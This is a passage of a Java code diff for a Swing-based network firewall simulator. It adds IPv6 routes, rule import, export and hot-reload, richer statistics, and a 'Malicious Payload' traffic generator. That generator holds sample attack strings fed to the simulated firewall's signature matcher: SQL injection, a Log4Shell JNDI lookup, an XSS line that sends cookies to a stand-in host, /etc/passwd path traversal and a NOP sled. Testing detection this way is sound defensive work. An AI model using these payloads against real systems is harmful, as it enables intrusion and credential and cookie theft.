         logArea.append("... 0.0.0.0/0 - Default Route\n");
         logArea.append("... 172.16.0.0/16 - Corporate Network\n");
         logArea.append("... 192.168.0.0/16 - Private Network\n");
+        logArea.append("... fd00::/8 - Internal Network\n");
+        logArea.append("... fd00:172:16::/48 - Corporate Network\n");
+        logArea.append("... fe80::/10 - Private Network\n");
+        logArea.append("... ::/0 - Default Route\n");
         logArea.setCaretPosition(logArea.getDocument().getLength());
     }
     
@@ -765,9 +1342,22 @@ public class NetworkFirewallSimulator extends JFrame {
                 break;
                 
             case "Malicious Payload":
+                byte[] nops = new byte[24];
+                Arrays.fill(nops, (byte) 0x90);
+                byte[][] payloads = {
+                    "GET /items?id=1' UNION SELECT user, password FROM accounts-- HTTP/1.1".getBytes(StandardCharsets.UTF_8),
+                    "GET / HTTP/1.1\r\nUser-Agent: ${jndi:ldap://203.0.113.9/a}".getBytes(StandardCharsets.UTF_8),
+                    "POST /comment HTTP/1.1\r\n\r\nbody=<script>document.location='//x/'+document.cookie</script>".getBytes(StandardCharsets.UTF_8),
+                    "GET /download?file=../../../../etc/passwd HTTP/1.1".getBytes(StandardCharsets.UTF_8),
+                    nops
+                };
                 for (int i = 0; i < packetsToGenerate; i++) {
-                    firewall.sendPacket("HTTP", "203.0.113." + rand.nextInt(256), 
-                                      "172.16.0.26", "8080");
+                    String srcIP = "203.0.113." + rand.nextInt(256);
+                    ByteBuffer payload = ByteBuffer.wrap(payloads[i % payloads.length]);
+                    String signature = firewall.matchedSignature(payload);
+                    String status = firewall.sendPacket("HTTP", srcIP, "172.16.0.26", "8080", payload);
+                    logArea.append("... " + srcIP + " payload " + (signature == null ? "clean" : "matches " + signature)
+                            + " [" + status + "]\n");
                     newTrafficCount++;
                 }
                 break;
@@ -782,7 +1372,7 @@ public class NetworkFirewallSimulator extends JFrame {
         }
         
         // Update display with simulated attacks
-        List<Packet> newTraffic = firewall.getTrafficLog();
+        List<Packet> newTraffic = firewall.getRecentTraffic(newTrafficCount);
         for (int i = 0; i < Math.min(newTrafficCount, newTraffic.size()); i++) {
             Packet p = newTraffic.get(i);
             // Only add if not already in table (check by time)
@@ -836,11 +1426,119 @@ public class NetworkFirewallSimulator extends JFrame {
         textArea.setEditable(false);
         JScrollPane scrollPane = new JScrollPane(textArea);
         
-        JOptionPane.showMessageDialog(this, scrollPane, "Export Rules", 
-            JOptionPane.INFORMATION_MESSAGE);
+        String[] options = {"Save as Text...", "Save Snapshot...", "Close"};
+        int choice = JOptionPane.showOptionDialog(this, scrollPane, "Export Rules",
+            JOptionPane.DEFAULT_OPTION, JOptionPane.INFORMATION_MESSAGE, null, options, options[2]);
+        if (choice == 0 || choice == 1) {
+            saveRules(choice == 1);
+        }
+    }
+    
+    private void saveRules(boolean snapshot) {
+        JFileChooser chooser = new JFileChooser(".");
+        chooser.setSelectedFile(new java.io.File(snapshot ? FirewallSimulator.SNAPSHOT_FILE : FirewallSimulator.RULES_FILE));
+        if (chooser.showSaveDialog(this) != JFileChooser.APPROVE_OPTION) return;
+        
+        Path path = chooser.getSelectedFile().toPath();
+        RuleIndex rules = firewall.getRuleIndex();
+        try {
+            if (snapshot) {
+                rules.save(path);
+            } else {
+                RuleText.write(rules, path);
+            }
+            String time = timeFormat.format(new Date());
+            logArea.append("[" + time + "] Rules Exported: " + rules.size() + " rules to " + path.getFileName() + "\n");
+            logArea.setCaretPosition(logArea.getDocument().getLength());
+        } catch (IOException e) {
+            JOptionPane.showMessageDialog(this, "Could not save rules:\n" + e.getMessage(), "Error", JOptionPane.ERROR_MESSAGE);
+        }
+    }
+    
+    private void importRules() {
+        JFileChooser chooser = new JFileChooser(".");
+        if (chooser.showOpenDialog(this) != JFileChooser.APPROVE_OPTION) return;
+        
+        Path path = chooser.getSelectedFile().toPath();
+        long start = System.nanoTime();
+        try {
+            RuleIndex rules = RuleText.load(path);
+            firewall.setRuleIndex(rules);
+            firewall.setRulesSource(path);
+            double millis = (System.nanoTime() - start) / 1e6;
+            reloadRulesTable();
+            watchRules(path);
+            
+            String time = timeFormat.format(new Date());
+            logArea.append(String.format("[%s] Rules Imported: %d rules from %s (%.1f ms)%n",
+                time, rules.size(), path.getFileName(), millis));
+            logArea.setCaretPosition(logArea.getDocument().getLength());
+            updateStatistics();
+        } catch (IOException e) {
+            JOptionPane.showMessageDialog(this, "Could not load rules:\n" + e.getMessage(), "Error", JOptionPane.ERROR_MESSAGE);
+        }
+    }
+    
+    // Hot-swaps edits of the rules file into the running engine
+    private void watchRules(Path path) {
+        if (ruleWatcher != null) {
+            ruleWatcher.close();
+        }
+        try {
+            ruleWatcher = new RuleFileWatcher(path, firewall::setRuleIndex, new RuleFileWatcher.Listener() {
+                @Override
+                public void reloaded(Path file, RuleIndex rules, long nanos) {
+                    SwingUtilities.invokeLater(() -> {
+                        reloadRulesTable();
+                        appendLog(String.format("Rules Reloaded: %d rules from %s in %.1f ms",
+                            rules.size(), file.getFileName(), nanos / 1e6));
+                        updateStatistics();
+                    });
+                }
+                
+                @Override
+                public void rejected(Path file, String reason) {
+                    SwingUtilities.invokeLater(() -> appendLog("Rules Reload Rejected: " + reason
+                        + " (keeping " + firewall.getRuleIndex().size() + " rules)"));
+                }
+            });
+        } catch (IOException e) {
+            ruleWatcher = null;
+            appendLog("Cannot watch " + path + ": " + e.getMessage());
+        }
+    }
+    
+    private void appendLog(String message) {
+        String time = timeFormat.format(new Date());
+        logArea.append("[" + time + "] " + message + "\n");
+        logArea.setCaretPosition(logArea.getDocument().getLength());
     }
     
     private void showStatistics() {
+        // Breakdowns come straight from the columns of the traffic store
+        TrafficStore traffic = firewall.getTraffic();
+        long scanStart = System.nanoTime();
+        Map<String, Long> byStatus = traffic.countByStatus();
+        Map<String, Long> byProtocol = traffic.countByProtocol();
+        long blockedLastMinute = traffic.countSince(System.currentTimeMillis() - 60_000, "BLOCK");
+        double scanMillis = (System.nanoTime() - scanStart) / 1e6;
+        StringBuilder breakdown = new StringBuilder();
+        breakdown.append("By Protocol (60s):\n");
+        firewall.getSeries().protocolTotals(System.currentTimeMillis(), 60)
+            .forEach((k, v) -> breakdown.append(String.format("  %-14s %d%n", k, v)));
+        breakdown.append("Protocol Verdicts (allowed / blocked):\n");
+        for (PortCounters.Row r : firewall.getCounters().protocols()) {
+            breakdown.append(String.format("  %-14s %d / %d%n", r.key, r.allowed, r.blocked));
+        }
+        breakdown.append("Hot Ports (allowed / blocked):\n");
+        for (PortCounters.Row r : firewall.getCounters().hotPorts(10)) {
+            breakdown.append(String.format("  %-14s %d / %d (%.1f%% blocked)%n", r.key, r.allowed, r.blocked, r.blockRate()));
+        }
+        breakdown.append("By Status:\n");
+        byStatus.forEach((k, v) -> breakdown.append(String.format("  %-14s %d%n", k, v)));
+        breakdown.append("By Protocol:\n");
+        byProtocol.forEach((k, v) -> breakdown.append(String.format("  %-14s %d%n", k, v)));
+        
         String stats = String.format(
             "═══════════════════════════════════════\n" +
             "         FIREWALL STATISTICS\n" +
@@ -850,14 +1548,25 @@ public class NetworkFirewallSimulator extends JFrame {
             "Blocked:         %d\n" +
             "Block Rate:      %.1f%%\n\n" +
             "Active Rules:    %d\n" +
-            "Traffic Log:     %d entries\n\n" +
+            "Traffic Log:     %d entries\n" +
+            "Banned Sources:  %d\n\n" +
+            "Traffic Store:   %d packets, %.1f MB\n" +
+            "Blocked (60s):   %d\n" +
+            "%s" +
+            "Scan Time:       %.2f ms\n\n" +
             "═══════════════════════════════════════",
             firewall.getTotalPackets(),
             firewall.getAllowedPackets(),
             firewall.getBlockedPackets(),
             firewall.getBlockRate(),
             rulesModel.getRowCount(),
-            trafficModel.getRowCount()
+            trafficModel.getRowCount(),
+            firewall.getBans().size(),
+            traffic.size(),
+            traffic.memoryBytes() / (1024.0 * 1024.0),
+            blockedLastMinute,
+            breakdown,
+            scanMillis
         );
         
         JTextArea textArea = new JTextArea(stats);
@@ -885,8 +1594,7 @@ public class NetworkFirewallSimulator extends JFrame {
     private boolean isValidIP(String ip) {
         if (ip == null || ip.trim().isEmpty()) return false;
         
-        String pattern = "^((25[0-5]|2[0-4][0-9]|[01]?[0-9][0-9]?)\\.){3}(25[0-5]|2[0-4][0-9]|[01]?[0-9][0-9]?)$";
-        return ip.matches(pattern);
+        return IPv4.parse(ip) != IPv4.INVALID || IPv6.isValid(ip);
     }
     
     public static void main(String[] args) {